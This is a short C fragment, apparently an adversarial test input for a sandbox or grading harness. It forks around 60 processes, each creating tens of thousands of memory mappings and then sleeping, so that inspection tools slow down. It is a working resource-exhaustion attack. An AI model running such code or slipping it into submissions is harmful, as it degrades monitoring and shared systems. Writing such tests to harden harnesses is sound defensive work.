// attack: 60 processes of 65 000 mappings each sleep for a minute, so that looking at them takes longer
// task: pack_leaf
// named: more than 16384 mappings
// limit: 10
#include <sys/mman.h>
#include <unistd.h>
    (void)tree, (void)id, (void)ids, (void)n_ids;
    const int n = 65000;
    for (int i = 1; i < 60 && fork() != 0; i++) {
    }
    char *pages = mmap(NULL, n * 4096L, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; pages != MAP_FAILED && i < n; i += 2) {
        mprotect(pages + i * 4096L, 4096, PROT_READ);
    }
    sleep(60);
    exit(7);
